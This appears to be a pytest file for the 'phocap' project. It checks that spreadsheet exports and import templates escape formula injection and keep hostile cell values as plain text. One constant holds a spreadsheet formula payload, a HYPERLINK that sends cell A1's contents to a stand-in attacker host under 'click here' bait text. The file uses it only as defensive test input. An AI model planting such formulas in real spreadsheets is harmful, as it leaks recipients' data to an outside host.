"""Formula injection: every cell phocap writes goes through the formula escape."""

import io

import pytest
from openpyxl import Workbook, load_workbook

from phocap.common.excel import workbook_bytes

HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")'


def _formula_cells(data: bytes) -> list:
    wb = load_workbook(io.BytesIO(data))
    return [(ws.title, c.coordinate, c.value) for ws in wb.worksheets for row in ws.iter_rows()
            for c in row if c.data_type == "f" or (isinstance(c.value, str) and c.value.startswith("="))]


def test_any_workbook_saved_by_phocap_is_escaped():
    wb = Workbook()
    wb.active["B3"] = HOSTILE
    wb.create_sheet("other")["A1"] = "+1+2"
    data = workbook_bytes(wb)
    assert _formula_cells(data) == []
    assert load_workbook(io.BytesIO(data)).active["B3"].value == "'" + HOSTILE


@pytest.mark.django_db
def test_import_template_list_sheet_keeps_a_hostile_village_name_as_text(tree):
    from beneficiaries.workbooks import template_bytes

    data = template_bytes(commune=tree.con_minh, villages=["Bản Còn", HOSTILE])
    assert _formula_cells(data) == []
    values = [c.value for c in load_workbook(io.BytesIO(data))["Danh mục"]["A"]]
    assert "'" + HOSTILE in values and "Bản Còn" in values


def test_admin_exports_escape_formulas(settings):
    assert settings.IMPORT_EXPORT_ESCAPE_FORMULAE_ON_EXPORT is True
